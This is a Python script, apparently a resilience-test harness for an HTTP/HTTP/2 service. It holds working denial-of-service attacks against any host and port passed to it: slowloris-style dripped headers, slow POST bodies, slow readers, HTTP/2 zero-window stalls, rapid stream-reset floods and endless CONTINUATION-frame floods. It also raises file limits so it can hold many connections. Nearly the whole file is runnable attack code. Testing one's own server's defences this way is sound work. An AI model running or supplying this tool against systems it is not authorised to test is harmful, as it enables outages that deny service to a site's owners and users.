"""Callers who want more than there is: slow connections of four kinds and two floods of frames, at a stated pace.

    attack.py HOST PORT SECONDS KIND=NUMBER...

KIND is a number of connections that are kept open for as long as the time runs, each opened again when it is shown out:

    silent    says nothing, or the first bytes of something
    heads     sends a request's head, a field every two seconds
    bodies    sends a request's body, a byte every two seconds
    readers   asks for an answer of many megabytes and reads none of it
    windows   asks for fifty answers over HTTP/2 with windows in which none fits

or a pace, in frames a second:

    resets         streams that are opened and reset at once
    continuations  a head that goes on and on

Prints `KEY=VALUE` pairs: how many connections were open at the end, how often each kind had to come again, how many frames
were sent, and the CPU seconds of all that.
"""

import asyncio
import os
import random
import resource
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HOST = b"localhost"
LARGE = b"/v2/resources/1/content/binary"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name, value):
    """Written out, without the table (RFC 7541 §6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path):
    pseudo = ((b":method", b"GET"), (b":scheme", b"http"), (b":path", path), (b":authority", HOST))
    return b"".join(field(name, value) for name, value in pseudo)


class Attack:
    def __init__(self, host, port, seconds):
        self.address = (host, port)
        self.end = time.monotonic() + seconds
        self.open = 0
        self.again = {}
        self.frames = {}

    def runs(self):
        return time.monotonic() < self.end

    async def connect(self):
        """A socket whose own buffers are small: what is not read stays with the other side."""
        loop = asyncio.get_running_loop()
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.setblocking(False)
        try:
            await asyncio.wait_for(loop.sock_connect(sock, self.address), 60)
        except (OSError, asyncio.TimeoutError):
            sock.close()
            raise ConnectionError
        return sock

    async def keep(self, kind, number, talk):
        """So many connections of a kind. Opened over five seconds, not to be a flood of connections as well."""

        async def one(n):
            await asyncio.sleep(5 * n / number)
            while self.runs():
                try:
                    sock = await self.connect()
                except ConnectionError:
                    await asyncio.sleep(1)
                    continue
                self.open += 1
                try:
                    await talk(sock, n)
                except OSError:
                    pass
                if self.runs():
                    self.open -= 1
                    sock.close()
                    self.again[kind] = self.again.get(kind, 0) + 1
                    await asyncio.sleep(random.random())
                else:
                    self.held.append(sock)

        await asyncio.gather(*(one(n) for n in range(number)))

    held = []

    async def closed(self, sock):
        """Until the other side closes, or the time is over. Reads nothing but the end."""
        loop = asyncio.get_running_loop()
        try:
            await asyncio.wait_for(loop.sock_recv(sock, 1), max(0.01, self.end - time.monotonic()))
        except asyncio.TimeoutError:
            pass

    async def drip(self, sock, piece):
        loop = asyncio.get_running_loop()
        while self.runs():
            await loop.sock_sendall(sock, piece)
            await asyncio.sleep(2)

    async def silent(self, sock, n):
        begun = (b"", b"G", b"PRI * HT", b"POST /v2/documents HTT")[n % 4]
        if begun:
            await asyncio.get_running_loop().sock_sendall(sock, begun)
        await self.closed(sock)

    async def heads(self, sock, n):
        await asyncio.get_running_loop().sock_sendall(sock, b"GET /v2/topology HTTP/1.1\r\nhost: localhost\r\n")
        await self.drip(sock, b"x-%d: y\r\n" % n)

    async def bodies(self, sock, _n):
        head = b"POST /v2/documents HTTP/1.1\r\nhost: localhost\r\ncontent-length: 1000000\r\n\r\n"
        await asyncio.get_running_loop().sock_sendall(sock, head)
        await self.drip(sock, b"x")

    async def readers(self, sock, _n):
        await asyncio.get_running_loop().sock_sendall(sock, b"GET %s HTTP/1.1\r\nhost: localhost\r\n\r\n" % LARGE)
        # Nothing is read, so its end does not show; a byte that may not be there shows it.
        await self.drip(sock, b"\r\n")

    async def windows(self, sock, _n):
        shut = frame(4, 0, 0, b"\0\4\0\0\0\0")
        heads = b"".join(frame(1, 5, 2 * n + 1, request(LARGE)) for n in range(50))
        await asyncio.get_running_loop().sock_sendall(sock, PREFACE + shut + heads)
        while self.runs():
            await asyncio.get_running_loop().sock_sendall(sock, frame(8, 0, 0, b"\0\0\0\1"))
            await asyncio.sleep(5)

    async def flood(self, kind, pace, burst):
        """Bursts of a hundred frames at a pace, on the next connection when one is ended."""
        loop = asyncio.get_running_loop()
        self.frames[kind] = 0
        due = time.monotonic()
        while self.runs():
            try:
                sock = await self.connect()
                await loop.sock_sendall(sock, PREFACE + frame(4, 0, 0))
                n = 0
                while self.runs():
                    await loop.sock_sendall(sock, burst(n))
                    n += 1
                    self.frames[kind] += 100
                    due = max(due + 100 / pace, time.monotonic() - 1)
                    await asyncio.sleep(max(0, due - time.monotonic()))
            except (OSError, ConnectionError):
                self.again[kind] = self.again.get(kind, 0) + 1
                await asyncio.sleep(0.01)
            finally:
                sock.close()

    async def run(self, wanted):
        head = request(b"/v2/topology")

        def resets(n):
            ids = range(100 * n + 1, 100 * n + 101, 2)
            return b"".join(frame(1, 5, s, head) + frame(3, 0, s, b"\0\0\0\x08") for s in ids)

        def continuations(n):
            more = frame(9, 0, 1, field(b"x", b"y")) * 99
            return (frame(1, 0, 1, head) if n == 0 else frame(9, 0, 1)) + more

        floods = {"resets": resets, "continuations": continuations}
        tasks = []
        for kind, number in wanted.items():
            if kind in floods:
                tasks.append(self.flood(kind, number, floods[kind]))
            else:
                tasks.append(self.keep(kind, number, getattr(self, kind)))
        await asyncio.gather(*tasks)
        used = resource.getrusage(resource.RUSAGE_SELF)
        facts = {"open": self.open, "cpu": round(used.ru_utime + used.ru_stime, 1)}
        facts |= {f"{kind}_again": number for kind, number in self.again.items()}
        facts |= {f"{kind}_sent": number for kind, number in self.frames.items()}
        print(*(f"{key}={value}" for key, value in facts.items()), flush=True)


def main():
    host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    wanted = {kind: int(number) for kind, number in (pair.split("=") for pair in sys.argv[4:])}
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    os.nice(5)
    asyncio.run(Attack(host, port, seconds).run(wanted))


if __name__ == "__main__":
    main()
